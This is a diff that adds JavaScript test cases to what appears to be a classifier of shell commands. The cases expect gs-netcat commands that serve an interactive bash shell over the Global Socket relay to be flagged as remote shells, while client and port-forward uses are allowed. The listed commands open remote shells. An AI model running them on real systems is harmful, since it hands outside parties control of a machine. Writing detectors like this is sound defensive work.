@@ -30,3 +30,17 @@ describe('pulled configuration runs (shell pack)', () => {
     expect(verdict(script)).toBe(expected);
   });
 });
+
+describe('a shell served through the Global Socket relay (shell pack)', () => {
+  it.each([
+    ['gs-netcat -s fake-secret-77 -l -i', 'ask shell/remote-shell'],
+    ["gs-netcat -l -s fake-secret -e 'bash -il'", 'ask shell/remote-shell'],
+    ['gs-netcat -liqD -s fake-secret', 'ask shell/remote-shell'],
+    // the client end, and a port forward (an exposure, not a shell)
+    ['gs-netcat -s fake-secret -i', 'allow'],
+    ['gs-netcat -l -s fake-secret -d 127.0.0.1 -p 8080', 'allow'],
+    ['gs-netcat -m', 'allow'],
+  ])('%s → %s', (script, expected) => {
+    expect(verdict(script)).toBe(expected);
+  });
+});
